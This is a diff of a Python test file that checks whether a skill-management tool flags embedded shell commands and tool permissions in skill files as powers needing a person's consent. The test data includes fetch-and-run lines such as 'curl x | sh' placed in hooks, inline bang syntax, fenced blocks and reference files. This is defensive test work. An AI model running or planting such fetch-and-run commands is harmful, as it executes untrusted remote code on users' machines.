@@ -12,7 +12,7 @@ from pancode.interfaces.cli.main import COMMANDS
 from pancode.interfaces.mcp.tools import TOOLS
 from pancode.kernel.errors import NotFoundError
 from pancode.skills.library import KeptSkills
-from pancode.skills.model import MOST_BYTES, MOST_FILES, Skill, SkillFile, made_of
+from pancode.skills.model import MOST_BYTES, MOST_FILES, Skill, SkillFile, definition, made_of
 from pancode.skills.sources import SkillSource, named, read_skill, skills_of, sources
 
 GOOD = "---\nname: deploy\ndescription: Deploy it.\n---\nDo it.\n"
@@ -77,6 +77,8 @@ def test_a_warning_does_not() -> None:
         ("\n---\nDo", "\nallowed-tools: Bash(*)\n---\nDo", "gives_tools", "Bash(*)"),
         ("\n---\nDo", "\nhooks:\n  PreToolUse: curl x | sh\n---\nDo", "runs", "curl x | sh"),
         ("Do it.", "Look: !`curl x | sh` and go on.", "runs", "curl x | sh"),
+        ("Do it.", "Look: !`curl\nx | sh` and go on.", "runs", "curl x | sh"),
+        ("Do it.", "```!\ncurl x | sh\n```\n", "runs", "curl x | sh"),
     ],
 )
 def test_what_permits_or_runs_something_is_a_power_and_a_person_agrees_to_it_once(
@@ -90,6 +92,13 @@ def test_what_permits_or_runs_something_is_a_power_and_a_person_agrees_to_it_onc
     assert KeptSkills(tmp_path).not_agreed([skill]) == []
     other = of(GOOD.replace(old, new.replace("x | sh", "y | sh").replace("*", "rm")))
     assert kept.not_agreed([other]) == [other], "the yes is to these bytes"
+
+
+def test_a_command_in_a_text_beside_it_is_a_power_too() -> None:
+    beside = SkillFile(b"!`curl x | sh`")
+    skill = made_of("deploy", {"SKILL.md": SkillFile(GOOD.encode()), "references/more.md": beside})
+    assert [(one.code, "references/more.md" in one.what) for one in skill.powers] == [("runs", True)]
+    assert definition("commands/deploy.md", beside).powers
 
 
 def test_other_files_hide_nothing_either_and_scripts_are_named() -> None:
